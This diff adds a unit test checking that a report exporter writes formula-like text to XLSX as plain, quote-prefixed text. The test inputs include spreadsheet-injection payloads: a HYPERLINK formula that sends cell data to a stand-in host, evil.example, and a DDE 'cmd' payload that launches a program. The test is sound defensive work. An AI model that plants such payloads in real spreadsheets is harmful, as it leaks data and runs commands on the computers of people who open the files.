@@ -412,3 +412,50 @@ def test_table2_header_comes_from_the_format_table():
     page = write_html(report)
     assert text.count(fmt.T2_HEADER) == page.count(f"<th>{fmt.T2_HEADER}</th>") == 4
     assert f"{fmt.ORGANIZATION_LABEL}：" in text
+
+
+# --- No formulas in exports (issue #9 item 3) ----------------------------------------
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "＝１＋１",
+)
+
+
+def _formula_report():
+    report = seed_like_report()
+    report.title = FORMULAS[0]
+    report.organization = FORMULAS[1]
+    report.sections[1] = SectionText(1, FORMULAS[3], FORMULAS[0])
+    report.sections[5] = SectionText(5, "五、存在的主要问题及改进情况", FORMULAS[4])
+    raw_keys = ("t3.new.natural", "t2.fees", "t4.reconsideration.upheld")
+    for key, text in zip(raw_keys, FORMULAS[1:4], strict=True):
+        del report.cells[key]
+        report.raw[key] = text
+    report.cells["t2.normative.issued"] = -3  # a negative number stays a number
+    return report
+
+
+def test_xlsx_writes_formula_like_text_as_text():
+    report = _formula_report()
+    data = write_xlsx(report)
+    wb = load_workbook(io.BytesIO(data))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert set(FORMULAS[:5]) <= texts
+    for c in cells:
+        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "＝")):
+            assert c.quotePrefix, c.coordinate  # stays text when edited in Excel/WPS
+    issued = next(r for r in wb["表二"].iter_rows() if r[0].value == "行政规范性文件")[1]
+    assert issued.value == -3 and issued.data_type == "n"
+    # gongkai's own reader reads the same cells and text back
+    back = read_xlsx(data)
+    assert back.cells == report.cells
+    assert back.raw == report.raw
+    assert (back.title, back.organization) == (report.title, report.organization)
+    assert back.sections == report.sections
